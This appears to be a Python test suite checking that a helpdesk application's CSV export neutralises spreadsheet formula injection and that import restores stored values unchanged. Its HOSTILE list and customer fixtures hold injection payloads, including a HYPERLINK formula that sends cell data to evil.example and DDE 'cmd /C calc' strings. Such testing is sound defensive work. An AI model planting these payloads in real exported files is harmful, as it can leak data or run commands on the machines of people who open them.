"""CSV export is safe for spreadsheets (issue 14, item 8): a cell that Excel or LibreOffice would
read as a formula (it begins with =, +, -, @, a tab or a carriage return) is written with a leading
single quote, so it shows as text; the import takes exactly that quote off again, so what was
stored comes back unchanged. A value that truly begins with a quote round-trips too."""

import csv
import io

from hypothesis import given, settings
from hypothesis import strategies as st

from helpdesk import csv_io
from helpdesk import customers as cs
from helpdesk.models import Customer

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")

# What a spreadsheet's formula injection looks like (OWASP's list and its usual friends).
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click me")',
    "=1+1",
    "+98 912 345 6789",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",
    "'",
    "''",
    "'plain quote",
    "=",
    "-",
]


def _through_a_file(values: list[str]) -> list[str]:
    """Write one row as the export does, read it back as the import does."""
    buffer = io.StringIO(newline="")
    csv.writer(buffer).writerow([csv_io.spreadsheet_safe(v) for v in values])
    written = next(csv.reader(io.StringIO(buffer.getvalue(), newline="")))
    assert not [cell for cell in written if cell.startswith(FORMULA_START)], written
    return [csv_io.from_spreadsheet(cell) for cell in written]


def test_a_formula_cell_is_written_as_text_and_read_back_as_it_was():
    assert csv_io.spreadsheet_safe("=1+1") == "'=1+1"
    assert csv_io.spreadsheet_safe("plain") == "plain"
    assert csv_io.spreadsheet_safe("") == ""
    assert csv_io.spreadsheet_safe("'plain quote") == "'plain quote"  # nothing for the import to take off
    assert csv_io.spreadsheet_safe("'=1") == "''=1"  # the import takes one quote off: "'=1" again
    assert _through_a_file(HOSTILE) == HOSTILE


def test_numbers_and_empty_cells_are_left_alone():
    assert csv_io.spreadsheet_safe(12) == 12
    assert csv_io.spreadsheet_safe(None) is None


@settings(max_examples=500, deadline=None)
@given(
    st.lists(
        st.one_of(
            st.text(),
            st.text(alphabet="=+-@\t\r'\"a ,;\n", max_size=6),  # the characters that matter, often
            st.sampled_from(FORMULA_START + ("'",)).flatmap(lambda first: st.text().map(lambda rest: first + rest)),
        ),
        max_size=5,
    )
)
def test_any_text_survives_export_then_import_and_no_cell_starts_a_formula(values):
    values = [v.replace("\x00", "") for v in values]  # a CSV file cannot hold NUL
    assert _through_a_file(values) == values


def test_a_hostile_customer_is_exported_as_text_and_imported_unchanged(db, supervisor, tmp_path):
    names = {
        "given_name": '=HYPERLINK("http://evil.example","Click")',
        "family_name": "+cmd|' /C calc'!A0",
        "notes": "-1+1\nsecond line",
        "address": "'=quoted on purpose",
    }
    cs.create(supervisor, cs.Draft(kind="person", phones=[("mobile", "+989123456789")], tags=["=vip"], **names))
    cs.create(supervisor, cs.Draft(kind="organisation", organisation="@SUM(A1:A9)"))
    path = tmp_path / "customers.csv"
    assert csv_io.export(supervisor, path) == 2

    with open(path, encoding="utf-8-sig", newline="") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_START)], cells
    assert '\'=HYPERLINK("http://evil.example","Click")' in cells
    assert "'+989123456789" in cells

    Customer.delete().execute()  # the same office, empty again
    result = csv_io.import_rows(supervisor, path)
    assert (result.imported, result.rejected) == (2, 0)
    assert Customer.get(Customer.kind == "organisation").organisation == "@SUM(A1:A9)"
    back = Customer.get(Customer.kind == "person")
    assert {name: getattr(back, name) for name in names} == names
    record = cs.get(back.id)
    assert [p.number for p in record.phones] == ["+989123456789"]
    assert record.tags == ["=vip"]


def test_the_preview_shows_the_values_as_they_will_be_stored(db, supervisor, tmp_path):
    path = tmp_path / "in.csv"
    path.write_text("given_name,family_name\n'=1+1,''quoted\n'plain,x\n", encoding="utf-8")
    preview = csv_io.read_preview(path)
    assert [row.cells for row in preview.rows] == [["=1+1", "'quoted"], ["'plain", "x"]]


def test_rejected_rows_are_written_safe_too(db, supervisor, tmp_path):
    path = tmp_path / "in.csv"
    path.write_text("given_name,email\n'=1+1,not an address\n", encoding="utf-8")
    result = csv_io.import_rows(supervisor, path)
    assert result.rejected == 1
    with open(result.rejected_path, encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    assert rows[1][0] == "'=1+1"
